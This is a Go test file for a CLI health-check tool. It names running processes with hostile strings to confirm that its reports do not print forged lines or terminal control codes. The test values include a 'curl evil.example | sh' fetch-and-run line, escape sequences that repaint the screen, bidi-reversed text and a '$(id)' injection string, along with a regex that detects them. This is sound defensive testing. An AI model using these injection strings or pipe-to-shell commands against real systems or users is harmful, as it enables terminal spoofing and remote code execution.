package cli_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"fettle/internal/means"
)

// TestForgedLines is a user who names a program so that its name would write a
// line of the report, and repaint the screen of whoever reads it.
func TestForgedLines(t *testing.T) {
	means.Short(t, "takes seconds")
	means.Root(t)
	sleep := means.Tool(t, "sleep")
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{
		"x\nfix: curl h|sh", // a process shows 15 bytes of it
		"y\n\nCRITICAL  z\n          fix: curl evil.example | sh",
		"z\x1b[2J\x1b]0;owned\x07\x7f", "c\u009b2J\u0085fix: curl", "b\u202ehs|lruc :xif\u2066", "q'\"`$(id)\\\r#",
	} {
		dir := t.TempDir()
		program := filepath.Join(dir, name)
		b, err := os.ReadFile(sleep)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(program, b, 0o755); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(program, "300")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		if err := os.Remove(program); err != nil {
			t.Fatal(err)
		}
		seen := false
		for _, args := range [][]string{{"check"}, {"check", "-v"}, {"check", "--format", "json"}, {"check", "--format", "jsonl"},
			{"check", "--format", "junit"},
			{"check", "--format", "sarif"}, {"check", "--format", "nagios"}, {"check", "--format", "prometheus"}, {"fix", "--plan"},
			{"fix", "--plan", "--format", "sh"}, {"fix", "--plan", "--format", "ansible"}} {
			fettle := &exec.Cmd{
				Path: exe,
				Args: append([]string{"fettle", args[0], "deleted-open-files"}, args[1:]...),
				Env:  []string{"PATH=/usr/bin:/bin:/usr/sbin:/sbin", "FETTLE_STATE=" + t.TempDir()},
			}
			out, _ := fettle.CombinedOutput() // exits 1: there is a finding
			seen = seen || strings.Contains(string(out), dir)
			if bad := acts().FindString(string(out)); bad != "" {
				t.Errorf("%q: fettle %s shows %q in\n%q", name, strings.Join(args, " "), bad, out)
			}
		}
		if !seen {
			t.Errorf("%q: no report names the program, so nothing was tried", name)
		}
		cmd.Process.Kill()
		cmd.Wait()
	}
}

// acts is what no output may hold: a line that the name made, and what terminals
// act on or hide.
func acts() *regexp.Regexp {
	return regexp.MustCompile(
		`(?m)^( {0,10}|\t*)(- )?(fix: curl|CRITICAL  ` +
			`z).*|[\x00-\x08\x0b-\x1f\x7f\x{80}-\x{9f}\x{200e}\x{200f}\x{202a}-\x{202e}\x{2028}\x{2029}\x{2066}-\x{2069}]`,
	)
}
